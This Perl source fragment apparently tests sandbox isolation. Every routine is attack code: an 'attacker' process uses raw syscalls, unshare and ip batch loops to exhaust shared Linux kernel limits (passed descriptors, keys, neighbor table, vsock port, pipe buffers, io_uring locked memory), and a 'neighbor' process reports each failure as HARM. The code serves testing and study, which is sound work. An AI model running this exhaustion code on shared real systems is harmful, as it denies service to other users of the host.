# Limits of the kernel that pixels may share: the attacker uses all and holds
# it, while the neighbor tries to get some.

sub inflight {
    my $count = shift;
    for (1 .. $count / 200) {
        socketpair my $a, my $b, AF_UNIX, SOCK_DGRAM, 0 or last;
        push @kept, $a, $b;
        pass($a, 200) or last;
    }
}
# Sends copies of a descriptor over a socket.
sub pass {
    my ($socket, $copies) = @_;
    my $control = pack('Qii', 16 + 4 * $copies, 1, 1) . pack('i', fileno STDIN) x $copies;
    my $byte = 'x';
    my $vector = pack 'QQ', pointer($byte), 1;
    my $message = pack 'QLx4QQQQix4', 0, 0, pointer($vector), 1, pointer($control), length $control, 0;
    return syscall(46, fileno $socket, $message, 0) >= 0;
}
sub vsock { socket(my $s, 40, SOCK_STREAM, 0) or return; push @kept, $s; syscall(49, fileno $s, pack('SSLLx4', 40, 0, 31_377, 0xffffffff), 16) >= 0 ? 'bound' : $! + 0 }
sub key { my ($type, $name, $data) = ("user\0", "second-$_[0]\0", "x" x ($_[1] // 1)); syscall(248, $type, $name, $data, length $data, -2) >= 0 }
sub ring {
    my $parameters = "\0" x 120;
    my $fd = syscall(425, 1, $parameters);
    return if $fd < 0;
    my $area = syscall(9, 0, $_[0], 3, 0x22, -1, 0);
    my $vector = pack 'QQ', $area, $_[0];
    return syscall(427, $fd, 0, $vector, 1) >= 0;
}
# Runs a command in a new network namespace, with $F as a batch file of neighbor
# entries. Returns whether the command prints "added". All namespaces share the
# limit on entries.
sub add_neighbors {
    my ($count, $command) = @_;
    my $file = "/tmp/neighbors-$$";
    open my $out, '>', $file or die $!;
    printf $out "neigh replace 10.%d.%d.%d lladdr 02:00:00:00:00:01 dev d9 nud stale\n", $_ >> 16, $_ >> 8 & 255, $_ & 255 for 256 .. $count + 255;
    close $out;
    my $link = 'ip link add d9 type bridge && ip addr add 10.0.0.1/8 dev d9 && ip link set d9 up';
    our $adder = open my $process, '-|', 'unshare', '-Urn', 'sh', '-c', "$link || exit; F=$file; $command" or die $!;
    my $line = <$process> // '';
    push @kept, $process;
    return $line =~ /added/;
}

sub hold {
    files();
    vsock();
    for (1 .. 2000) { key($_, 100) or last }
    inflight(20_000);
    for (1 .. 2000) { pipe my $r, my $w or last; push @kept, $r, $w; fcntl $w, 1031, 1 << 20 or last }
    for (1 .. 4000) { ring(1 << 20) or last }
    $| = 1;
    print "READY\n";
    scalar <STDIN>;
}

# A process of its own: it keeps a processor busy.
sub hold_neighbors {
    # Renews the entries in a loop: the kernel deletes entries not updated for 5 seconds.
    add_neighbors(70_000, 'set -- ip -force -batch $F; "$@" 2>/dev/null; echo added; while :; do "$@" 2>/dev/null; done');
    $| = 1;
    print "READY\n";
    scalar <STDIN>;
    kill 9, our $adder;
}

# Prints a line for each thing that does not work for the neighbor.
sub suffer {
    print "HARM neighbor table\n" if !add_neighbors(50, 'ip -batch $F && echo added');
    my $bound = vsock();
    print "HARM same vsock port: $bound\n" if $bound && $bound eq 98;
    print "HARM keys: $!\n" if !key('victim', 100);
    socketpair my $a, my $b, AF_UNIX, SOCK_DGRAM, 0;
    print "HARM passing descriptors: $!\n" if !pass($a, 1);
    pipe my $r, my $w;
    print "HARM pipe size: $!\n" if !fcntl $w, 1031, 1 << 18;
    print "HARM locked memory: $!\n" if !ring(1 << 16);
}
